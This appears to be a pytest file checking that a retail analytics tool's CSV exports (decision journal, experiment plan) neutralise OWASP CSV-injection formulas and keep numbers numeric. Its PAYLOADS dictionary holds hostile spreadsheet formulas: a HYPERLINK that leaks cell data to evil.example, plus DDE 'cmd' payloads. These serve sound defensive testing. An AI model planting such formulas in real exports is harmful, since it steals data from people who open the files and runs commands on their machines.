"""CSV files people open in a spreadsheet: formula-like text is written behind a quote, numbers stay numbers,
and reading back gives the original text (issue 13, OWASP CSV injection)."""
from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from conftest import REPO_ROOT
from section_examples import read, weak_cohort

from playbook.config.loader import load_config
from playbook.core.csvsafe import neutralise, restore
from playbook.data.dataset import open_dataset
from playbook.journal.entry import JournalEntry
from playbook.journal.store import read_entries, read_journal, record_week
from playbook.steps.levers import design_lever, write_experiments_row

NOW = dt.datetime(2026, 11, 23, 9, 30, tzinfo=dt.timezone.utc)
# the first characters OWASP lists, written out here (not imported) so the test checks the module's list
OWASP_STARTS = ("=", "+", "-", "@", "\t", "\r")
# payloads of the OWASP page and of public write-ups, one per dangerous first character
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
# what a spreadsheet reads as a plain number; written independently of the module's pattern
PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def unsafe_cells(path: Path) -> list[str]:
    """Cells of a CSV file that a spreadsheet would evaluate: a formula start and not a plain number."""
    with open(path, newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    return [c for c in cells if c[:1] in OWASP_STARTS and not PLAIN_NUMBER.match(c)]


# --- the cell rule -------------------------------------------------------------------------

@pytest.mark.parametrize("start", OWASP_STARTS)
def test_text_starting_with_each_owasp_character_is_written_behind_a_quote(start):
    assert neutralise(PAYLOADS[start]) == "'" + PAYLOADS[start]


@pytest.mark.parametrize("number", ["-0.02", "-5", "+3", "-1.0E-2", "-.5", "12", "1e-05"])
def test_a_value_that_reads_as_a_number_is_left_as_it_is(number):
    assert neutralise(number) == number


@pytest.mark.parametrize("text", ["-2+3", "-inf", "-1_000", "-", "+", "=1", "-0.02 ", "-1e5+A1"])
def test_a_value_that_only_starts_like_a_number_is_neutralised(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", [*PAYLOADS.values(), "'=x", "''-y", "'a", "'", "", "plain", "'-0.5", "-0.5"])
def test_restore_gives_back_the_original_text_exactly(text):
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", ["'quoted by a person", "'-3", "'", "no quote"])
def test_text_that_was_never_neutralised_reads_unchanged(text):
    assert restore(text) == text


def test_non_text_values_pass_through_both_ways():
    for value in (-0.02, -3, None, dt.date(2026, 11, 23)):
        assert neutralise(value) == value and restore(value) == value


# --- the decision journal ------------------------------------------------------------------

def dangerous_entries(week: str) -> list[JournalEntry]:
    """One plan per OWASP character, every text field carrying the payload; negative numbers too."""
    return [JournalEntry(week, "plan", f"{PAYLOADS[s]}#{i}", lever=PAYLOADS[s], cohort=f"{PAYLOADS[s]}",
                         primary_metric="return_rate_14d", design="randomized",
                         expected_low=-0.03, expected_high=-1e-05, why=PAYLOADS[s], follow_ups=PAYLOADS[s])
            for i, s in enumerate(OWASP_STARTS)]


def test_formula_text_round_trips_through_the_journal(tmp_path):
    entries = dangerous_entries("2026-W47")
    record_week(tmp_path, "2026-W47", entries, "plan", now=NOW)

    back = read_entries(tmp_path)
    assert [dataclasses.replace(e, recorded_at=None) for e in back] == entries


def test_the_journal_file_holds_no_cell_a_spreadsheet_would_run(tmp_path):
    path = record_week(tmp_path, "2026-W47", dangerous_entries("2026-W47"), "plan", now=NOW)

    assert unsafe_cells(path) == []
    # what is quoted is exactly the payload (the quote is the only change)
    with open(path, newline="", encoding="utf-8") as fh:
        levers = [row["lever"] for row in csv.DictReader(fh)]
    assert levers == ["'" + PAYLOADS[s] for s in OWASP_STARTS]


def test_negative_numbers_stay_numbers_in_the_journal_file(tmp_path):
    path = record_week(tmp_path, "2026-W47", dangerous_entries("2026-W47"), "plan", now=NOW)

    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert set(raw["expected_low"]) == {"-0.03"} and set(raw["expected_high"]) == {"-1e-05"}
    typed = read_journal(tmp_path)
    assert (typed["expected_low"] == -0.03).all() and (typed["expected_high"] == -1e-05).all()


def test_a_week_recorded_after_a_dangerous_one_keeps_its_quoted_rows_and_their_reading(tmp_path):
    record_week(tmp_path, "2026-W46", dangerous_entries("2026-W46"), "plan", now=NOW)
    path = record_week(tmp_path, "2026-W47", dangerous_entries("2026-W47"), "plan", now=NOW)

    assert unsafe_cells(path) == []
    assert sorted(set(read_journal(tmp_path)["lever"])) == sorted(PAYLOADS.values())


# --- experiments_plan.csv ------------------------------------------------------------------

@pytest.fixture(scope="module")
def ready_plan():
    """The sample shop's ready plan (a bold lever on knitwear x size_too_small, as in test_levers)."""
    weak = read("weak_cohort", weak_cohort(
        filters={"category": "knitwear", "reason_code": "size_too_small"}, return_rate=0.0972, expected_rate=0.0401,
        window_weeks=["2026-10-12", "2026-10-19", "2026-10-26", "2026-11-02"]))
    snap = open_dataset(REPO_ROOT / "data_samples").as_of("2026-W47")
    plan = design_lever(weak, snap, load_config(), expected_low=-0.30, expected_high=-0.10)
    assert plan.ready
    return plan


def test_formula_text_round_trips_through_the_experiments_plan(ready_plan, tmp_path):
    plan = dataclasses.replace(ready_plan, experiment_id=PAYLOADS["@"], lever=PAYLOADS["="],
                               control_cohort=PAYLOADS["+"])
    written = write_experiments_row(plan, tmp_path)

    raw = pd.read_csv(written.path, dtype=str, keep_default_na=False).iloc[0]
    assert {k: restore(v) for k, v in raw.items() if k in ("experiment_id", "lever", "control_cohort")} == {
        "experiment_id": PAYLOADS["@"], "lever": PAYLOADS["="], "control_cohort": PAYLOADS["+"]}
    assert unsafe_cells(written.path) == []


def test_the_expected_range_in_the_experiments_plan_stays_numeric(ready_plan, tmp_path):
    written = write_experiments_row(dataclasses.replace(ready_plan, lever=PAYLOADS["-"]), tmp_path)

    row = next(csv.DictReader(io.StringIO(written.path.read_text(encoding="utf-8"))))
    assert (row["expected_low"], row["expected_high"]) == ("-0.3", "-0.1")
    assert row["lever"] == "'" + PAYLOADS["-"]


def test_a_lone_carriage_return_inside_a_text_does_not_split_the_journal_record(tmp_path):
    # the csv writer quotes only the characters of its line terminator: a bare "\r" went out unquoted
    # and the journal could no longer be read (every later run stopped on it)
    record_week(tmp_path, "2026-W47", [JournalEntry("2026-W47", "plan", "E1", lever="a\rb", why="c\rd")], "plan",
                now=NOW)

    assert read_journal(tmp_path)[["lever", "why"]].values.tolist() == [["a\rb", "c\rd"]]
